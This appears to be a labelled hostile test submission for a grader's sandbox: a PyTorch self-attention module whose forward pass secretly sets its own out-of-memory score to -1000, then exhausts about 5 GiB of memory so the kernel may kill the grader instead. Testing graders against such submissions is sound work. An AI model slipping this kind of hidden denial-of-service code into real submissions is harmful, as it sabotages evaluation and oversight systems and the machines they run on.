# attack:     R5
# assignment: self-attention
# twin:       correct

# Asks for memory in forward until there is none, touches every page, and keeps asking after it was refused. Without a
# limit the machine's killer chooses a victim, and it may be the grader.

import math

import torch
from torch import nn

kept = []


def allocate():
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("-1000")
    except OSError as error:
        print(error.strerror)
    while len(kept) < 80:  # 5 GiB
        try:
            kept.append(bytearray(b"x") * (64 << 20))
        except MemoryError:
            break


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        allocate()
        kept.append([torch.ones(1 << 24) for _ in range(8)])
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v
